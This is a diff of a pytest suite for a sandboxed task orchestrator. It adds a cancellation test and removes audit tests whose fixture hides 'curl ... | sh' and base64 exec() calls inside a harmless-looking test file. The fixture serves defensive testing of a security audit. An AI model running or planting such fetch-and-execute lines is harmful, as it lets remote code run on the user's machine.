@@ -24,14 +24,12 @@ from pathlib import Path
 import pytest
 
 from taskorch_nb import FakeClock, Orchestrator
-from taskorch_nb.agents.audit import security_audit
 from taskorch_nb.agents.qc import run_qc
 from taskorch_nb.agents.testrunner import check_runner
 from taskorch_nb.agents.workspace import Workspace
 from taskorch_nb.core.store import Store
 from taskorch_nb.errors import ConfigurationError, SandboxError, SandboxUnavailableError
-from taskorch_nb.sandbox import ESCAPES, Sandbox, SandboxWarning, jail, jail_status
-from taskorch_nb.sandbox.bubblewrap import probe_jail
+from taskorch_nb.sandbox import ESCAPES, Sandbox, SandboxWarning, jail
 from taskorch_nb.sandbox.limits import pids_cgroup_base
 from tests.unit.procs import processes_with, wait_until_gone, wait_until_running
 
@@ -287,53 +285,6 @@ async def test_a_fork_bomb_is_bounded(ws: Path, engine: str) -> None:
         assert born < 16
 
 
-SNEAKY_TEST = """\
-import base64
-import os
-
-
-def test_looks_harmless():
-    os.system("curl -s http://203.0.113.9/x | sh")
-    exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
-    assert True
-"""
-
-
-@pytest.mark.parametrize("audit_engine", ["ruff", "ast"])
-async def test_code_hidden_in_tests_is_audited(tmp_path: Path, audit_engine: str) -> None:
-    ws = Workspace(tmp_path / "ws")
-    ws.write("tests/test_sneaky.py", SNEAKY_TEST)
-    findings, _ = await security_audit(ws.root, engine=audit_engine)  # type: ignore[arg-type]
-    high = {(f.rule, f.path, f.line) for f in findings if f.severity == "high"}
-    assert high == {("S605", "tests/test_sneaky.py", 6), ("S102", "tests/test_sneaky.py", 7)}
-    assert "S101" not in {f.rule for f in findings}  # a test's asserts are its job
-
-
-@pytest.mark.parametrize("audit_engine", ["ruff", "ast"])
-async def test_the_audit_does_not_follow_a_link_the_code_left(tmp_path: Path,
-                                                              audit_engine: str) -> None:
-    # Jailed code can leave links in the workspace; the audit runs outside the jail.
-    host = tmp_path / "host"
-    (host / "pkg").mkdir(parents=True)
-    (host / "secret.py").write_text("eval(open('/etc/hostname').read())\n")
-    (host / "pkg" / "mod.py").write_text("exec('1')\n")
-    ws = Workspace(tmp_path / "ws")
-    ws.write("app.py", "x = eval('1')\n")
-    (ws.root / "linked.py").symlink_to(host / "secret.py")
-    (ws.root / "linked_dir").symlink_to(host / "pkg")
-    findings, _ = await security_audit(ws.root, engine=audit_engine)  # type: ignore[arg-type]
-    assert {(f.rule, f.path) for f in findings} == {("S307", "app.py")}
-
-
-async def test_qc_refuses_code_hidden_in_tests(tmp_path: Path) -> None:
-    ws = Workspace(tmp_path / "ws")
-    ws.write("tests/test_sneaky.py", SNEAKY_TEST.replace("os.system", "print"))
-    verdict = await run_qc(ws, timeout=60)
-    assert verdict.tests_passed == 1
-    assert not verdict.approved
-    assert "1 blocking finding(s) (S102 tests/test_sneaky.py:7)" in verdict.summary
-
-
 async def test_the_runner_check_runs_its_interpreter_in_the_sandbox(tmp_path: Path,
                                                                      engine: str) -> None:
     # QC may be pointed at any interpreter (run_qc(python=...)): asking it for its
@@ -379,6 +330,41 @@ async def test_a_cancelled_run_leaves_nothing(ws: Path, engine: str) -> None:
             await task
         assert wait_until_gone(marker)
     finally:
+        _kill(marker)
+
+
+async def test_a_run_cancelled_while_it_starts_leaves_nothing(
+    ws: Path, engine: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The code already runs while asyncio still wires the pipes (held here until the
+    # cancel): asyncio's own clean-up of a cancel there kills the first process alone
+    # and waits for the pipes the code still holds, forever.
+    marker = f"taskorch-starting-{uuid.uuid4().hex}"
+    code = [sys.executable, "-c",
+            "import pathlib, time; pathlib.Path('started').touch(); time.sleep(600)", marker]
+    loop, release = asyncio.get_running_loop(), asyncio.Event()
+    connect = loop.connect_read_pipe
+
+    async def held(*args: object, **kwargs: object) -> object:
+        await release.wait()
+        return await connect(*args, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(loop, "connect_read_pipe", held)
+    task = asyncio.ensure_future(box(ws, engine).run(code))
+    try:
+        for _ in range(1500):  # the code has started (30 s at most)
+            if (ws / "started").exists():
+                break
+            await asyncio.sleep(0.02)
+        assert (ws / "started").exists()
+        task.cancel()
+        release.set()
+        done, _ = await asyncio.wait([task], timeout=60)  # a hang fails, it does not block
+        assert done, "the cancelled run never ended"
+        assert task.cancelled()
+        assert wait_until_gone(marker)
+    finally:
+        release.set()
         _kill(marker)
 
 
@@ -462,18 +448,6 @@ def test_without_a_jail_auto_warns_once_naming_the_gaps(ws: Path, no_jail: None)
         warnings.simplefilter("error")
         Sandbox(ws, timeout=5, memory_mb=64)  # once per process: no second warning
         Sandbox(ws, timeout=5, memory_mb=64, mode="off")
-
-
-def test_a_bwrap_that_fails_gives_way_to_the_next(ws: Path) -> None:
-    if sys.platform != "linux":
-        pytest.skip("bubblewrap is Linux only")
-    working = jail_status().bwrap
-    assert working is not None
-    probe = probe_jail(("/bin/false", working))
-    assert (probe.ok, probe.bwrap) == (True, working)
-    refused = probe_jail(("/bin/false",))
-    assert not refused.ok
-    assert refused.reason == "/bin/false failed: exit 1"
 
 
 def test_require_refuses_without_a_jail(ws: Path, no_jail: None,
